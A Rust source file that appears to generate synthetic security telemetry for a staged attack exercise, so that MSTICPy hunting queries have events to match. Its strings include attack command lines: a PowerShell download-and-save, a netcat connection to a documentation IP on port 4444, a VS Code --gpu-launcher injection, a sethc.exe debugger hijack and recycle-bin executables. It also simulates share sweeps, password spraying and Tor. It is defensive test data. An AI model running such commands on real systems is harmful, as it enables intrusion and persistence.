//! An exercise of Contoso's own: one technique after the other, so that every hunting query under
//! MSTICPy's names has something to find.
//!
//! The support engineer runs it from his workstation on the third workday before today, all but
//! the Tor client, which was there two days earlier. What it writes is named so.

use std::net::Ipv4Addr;

use super::{
    alerts::{Alert, Evidence},
    calendar::{HOUR, MINUTE, SECOND},
    company::{
        Account, BACKUP, BUILD_SERVER, FILE_SERVER, PEOPLE, SUPPORT, SUPPORT_ADMIN, WEB_SERVER,
    },
    events::{Process, Session, Source},
    software::{Image, UNKNOWN},
    world::World,
};

/// The site that the exercise downloads from.
const SITE: (&str, Ipv4Addr) = ("exercise.contoso.com", Ipv4Addr::new(203, 0, 113, 60));
/// The tester outside, who tries passwords.
const TESTER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 9);
const DEBUGGERS: &str = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe";

pub(super) fn generate(world: &mut World) {
    let session = world.session(SUPPORT, world.calendar.workday(2));
    let time = session.start + HOUR;
    let command = r"powershell.exe -NoProfile -File C:\Exercise\run.ps1";
    let shell = world.spawn(session.explorer, time, "powershell.exe", command);
    commands(world, shell, time + MINUTE);
    documents(world, &session, time + 10 * MINUTE);
    warnings(world, &session, time + 30 * MINUTE);
    detected_site(world, &session, time + 45 * MINUTE);
    sweep(world, shell, time + 55 * MINUTE);
    let logon = time + 70 * MINUTE;
    passwords(world, logon);
    remoting(world, logon + 20 * MINUTE);
    address_of_a_server(world, logon + 30 * MINUTE);
    accessibility(world, shell, logon + 40 * MINUTE);
    tor(world);
}

fn image(world: &mut World, name: &'static str, path: &'static str, size: i64) {
    let content = world.content(size);
    world.software.add(Image {
        name: name.into(),
        path: path.into(),
        maker: &UNKNOWN,
        internal_name: "".into(),
        original_name: "".into(),
        description: "",
        content,
    });
}

/// What a command line shows.
fn commands(world: &mut World, shell: usize, time: i64) {
    for (place, (image, command)) in (0..).zip([
        ("net.exe", "net user oskar.lindqvar /domain"),
        ("net.exe", "net group \"Domain Admins\" /domain"),
        ("net.exe", "net accounts"),
        (
            "cmd.exe",
            r"cmd.exe /c echo TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA> C:\Exercise\probe.b64",
        ),
        (
            "cmd.exe",
            r"cmd.exe /c echo TVpQAAIAAAAEAA8A//8AALgAAAAAAAAAQAAaAAAAAAAA> C:\Exercise\other.b64",
        ),
        ("cmd.exe", r"cmd.exe /c C:\RECYCLER\S-1-5-21-0\probe.exe"),
        (
            "cmd.exe",
            r"cmd.exe /c C:\$Recycle.Bin\S-1-5-21-0\probe.exe",
        ),
        (
            "powershell.exe",
            r"powershell.exe -NoProfile -Command (New-Object Net.WebClient).DownloadFile('http://exercise.contoso.com/probe.bin','C:\Exercise\probe.bin')",
        ),
        (
            "powershell.exe",
            r"powershell.exe -NoProfile -Command Invoke-RestMethod -Uri $site -OutFile C:\Exercise\probe.bin",
        ),
    ]) {
        world.spawn(shell, time + place * 41 * SECOND, image, command);
    }
}

/// What an Office program, a mail program and a browser do one after the other.
fn documents(world: &mut World, session: &Session, time: i64) {
    let name = world.company.accounts[session.account].name.clone();
    let downloads = format!(r"C:\Users\{name}\Downloads");
    let broker = world.spawn(
        session.explorer,
        time,
        "RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    );
    for (parent, at) in [(broker, 2), (session.browser, 60)] {
        world.spawn(
            parent,
            time + at * SECOND,
            "Code.exe",
            "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --open-url -- \
             \"vscode://exercise\" --gpu-launcher=\"cmd.exe /c whoami\"",
        );
    }
    let sheet = world.spawn(
        session.explorer,
        time + 2 * MINUTE,
        "EXCEL.EXE",
        "EXCEL.EXE C:\\Exercise\\sheet.xlsm",
    );
    let shell = world.spawn(
        sheet,
        time + 2 * MINUTE + 9 * SECOND,
        "cmd.exe",
        "cmd.exe /c probe",
    );
    let script = world.spawn(
        sheet,
        time + 3 * MINUTE,
        "powershell.exe",
        "powershell.exe -File probe.ps1",
    );
    for (process, url) in [
        (shell, "exercise.contoso.kr"),
        (script, "http://exercise.contoso.kr/probe"),
    ] {
        world.connect(process, time + 4 * MINUTE, SITE.1, 80, url);
    }
    let document = format!(
        r"C:\Users\{name}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\EX3RC1SE\link.docx"
    );
    let editor = world.spawn(
        session.outlook,
        time + 6 * MINUTE,
        "WINWORD.EXE",
        format!("WINWORD.EXE /n \"{document}\""),
    );
    let link = format!("msedge.exe --single-argument https://{}/form", SITE.0);
    world.spawn(editor, time + 7 * MINUTE, "msedge.exe", link);
    let saved = [
        ("form.zip", "https://exercise.contoso.com/form.zip", ""),
        (
            "brochure.zip",
            "https://dl.dropboxusercontent.com/s/1/brochure.zip",
            "https://exercise.contoso.com/",
        ),
        (
            "prices.zip",
            "https://uc7.dl.dropboxusercontent.com/cd/0/prices.zip",
            "https://exercise.contoso.com/",
        ),
    ];
    for (place, (file, origin, referrer)) in (0..).zip(saved) {
        let at = time + 8 * MINUTE + place * 37 * SECOND;
        download(world, session, at, &format!(r"{downloads}\{file}"), origin).referrer =
            referrer.into();
    }
}

fn download<'w>(
    world: &'w mut World,
    session: &Session,
    time: i64,
    path: &str,
    origin: &'static str,
) -> &'w mut super::events::FileChange {
    let content = world.content(48_128);
    let saved = world.file(
        session.browser,
        time,
        "FileCreated",
        path.to_owned(),
        content,
    );
    saved.origin = origin.into();
    saved.origin_ip = Some(SITE.1);
    saved
}

/// What `SmartScreen` warned of, and what the engineer opened all the same.
fn warnings(world: &mut World, session: &Session, time: i64) {
    let link = format!("msedge.exe --single-argument https://{}/offer", SITE.0);
    world.spawn(session.outlook, time, "msedge.exe", link);
    download(
        world,
        session,
        time + MINUTE,
        r"C:\Exercise\offer.exe",
        "https://exercise.contoso.com/offer.exe",
    );
    for (place, (warning, actor)) in (0..).zip([
        ("SmartScreenUrlWarning", session.browser),
        ("SmartScreenAppWarning", session.explorer),
    ]) {
        let activity = world.random.guid();
        let additional = format!("{{\"ActivityId\":\"{activity}\",\"Experience\":\"Untrusted\"}}");
        for (step, action) in (0..).zip([warning, "SmartScreenUserOverride"]) {
            let at = time + (2 + place) * MINUTE + step * 9 * SECOND;
            let event = world.event(actor, at, action);
            event.additional = additional.clone().into();
            if place == 0 {
                event.url = "https://exercise.contoso.com/offer".into();
            } else {
                event.path = r"C:\Exercise\offer.exe".into();
            }
        }
    }
}

/// One file of a site is detected, another one is not.
fn detected_site(world: &mut World, session: &Session, time: i64) {
    let origin = "https://exercise.contoso.com/files/detected.exe";
    let path = r"C:\Exercise\detected.exe";
    let content = download(world, session, time, path, origin).content;
    let origin = "https://exercise.contoso.com/files/missed.exe";
    download(
        world,
        session,
        time + MINUTE,
        r"C:\Exercise\missed.exe",
        origin,
    );
    let defender = world.boot(session.device, time).defender;
    let event = world.event(defender, time + 20 * SECOND, "AntivirusDetection");
    event.path = path.into();
    event.content = Some(content);
    event.additional =
        "{\"ThreatName\":\"Virus:DOS/Exercise\",\"WasRemediated\":true,\"ReportSource\":\"Windows Defender\"}"
            .into();
}

/// One process asks all addresses of a network for their shares.
fn sweep(world: &mut World, shell: usize, time: i64) {
    image(world, "sweep.exe", r"C:\Exercise\sweep.exe", 217_600);
    let command = "sweep.exe 10.20.8.0/24 445";
    let sweep = world.spawn(shell, time, "sweep.exe", command);
    for last in 1..=120_u8 {
        let at = time + SECOND + i64::from(last) * 200_000_000;
        let address = Ipv4Addr::new(10, 20, 8, last);
        world.connection(sweep, at, "ConnectionFailed", (address, 445), "", "Tcp");
    }
}

/// A dozen wrong passwords of several accounts, then the right one.
fn passwords(world: &mut World, time: i64) {
    let source = Source::Outside(TESTER);
    for place in 0..12 {
        let account = PEOPLE + usize::try_from(place % 4).unwrap_or(0);
        world.log_on(
            WEB_SERVER,
            time + place * 11 * SECOND,
            "Network",
            account,
            source,
        );
        if let Some(attempt) = world.logons.last_mut() {
            attempt.failure = "InvalidUserNameOrPassword";
            attempt.admin = false;
        }
    }
    let at = time + 5 * MINUTE;
    world.log_on(WEB_SERVER, at, "Network", SUPPORT_ADMIN, source);
}

/// A service account runs commands of PowerShell on a server.
fn remoting(world: &mut World, time: i64) {
    image(
        world,
        "wsmprovhost.exe",
        r"C:\Windows\System32\wsmprovhost.exe",
        43_520,
    );
    let logon = world.log_on(
        FILE_SERVER,
        time,
        "Network",
        BACKUP,
        Source::Device(SUPPORT),
    );
    let parent = world.boot(FILE_SERVER, time).hosts[0];
    let command = r"C:\Windows\system32\wsmprovhost.exe -Embedding";
    let host = world.spawn_service(parent, time + SECOND, "wsmprovhost.exe", command, BACKUP);
    world.processes[host].logon = logon;
    for (place, name) in (2..).zip(["Get-SmbShare", "Get-ChildItem", "Out-Default"]) {
        let event = world.event(host, time + place * SECOND, "PowerShellCommand");
        event.additional = format!("{{\"Command\":\"{name}\"}}").into();
    }
}

/// An answer of a DHCP server makes a Linux server run a command.
fn address_of_a_server(world: &mut World, time: i64) {
    world.company.accounts.push(Account {
        name: "root".to_owned(),
        domain: "build01",
        sid: String::new(),
        upn: String::new(),
        object_id: String::new(),
        display: "root".to_owned(),
    });
    let account = world.company.accounts.len() - 1;
    image(world, "dash", "/usr/bin/dash", 125_688);
    image(world, "nc", "/usr/bin/nc", 43_768);
    let image = world.software.find("dash");
    // It came with the start of the server, before the thirty days.
    let manager = world.start(Process {
        device: BUILD_SERVER,
        image,
        id: 0,
        created: world.calendar.start - HOUR,
        command: "/usr/libexec/nm-dispatcher".into(),
        account,
        logon: 0,
        integrity: "",
        session: 0,
        parent: None,
        remote: None,
    });
    let script = "/bin/sh /etc/NetworkManager/dispatcher.d/11-dhclient ens3 dhcp4-change";
    let script = world.spawn(manager, time, "dash", script);
    world.spawn(script, time + SECOND, "nc", "nc 203.0.113.60 4444");
}

/// A debugger for what the sign-in screen starts, which an alert saw.
fn accessibility(world: &mut World, shell: usize, time: i64) {
    let editor = world.spawn(shell, time, "reg.exe", "reg.exe add sethc.exe /v Debugger");
    world.set_value(editor, time + SECOND, DEBUGGERS, "Debugger", "cmd.exe");
    let id = format!("da{}_1", world.random.hex(24));
    let device = world.processes[editor].device;
    world.alerts.alerts.push(Alert {
        time: time + 3 * MINUTE,
        id,
        title: "Accessibility feature replaced in an exercise",
        category: "Persistence",
        severity: "Informational",
        service: "Microsoft Defender for Endpoint",
        detection: "EDR",
        techniques: "[\"Accessibility Features (T1546.008)\"]",
        evidence: vec![
            Evidence::Device(device),
            Evidence::Account(PEOPLE + SUPPORT),
            Evidence::Value {
                device,
                key: DEBUGGERS,
                name: "Debugger",
                data: "cmd.exe",
            },
        ],
    });
}

fn tor(world: &mut World) {
    let session = world.session(SUPPORT, world.calendar.workday(5));
    image(
        world,
        "tor.exe",
        r"C:\Exercise\Tor Browser\Browser\TorBrowser\Tor\tor.exe",
        9_412_608,
    );
    let time = session.start + 2 * HOUR;
    let command = "tor.exe --defaults-torrc torrc-defaults";
    let client = world.spawn(session.explorer, time, "tor.exe", command);
    for (place, last) in (1..).zip([61, 62, 63]) {
        let relay = Ipv4Addr::new(203, 0, 113, last);
        world.connect(client, time + place * SECOND, relay, 9001, "");
    }
}
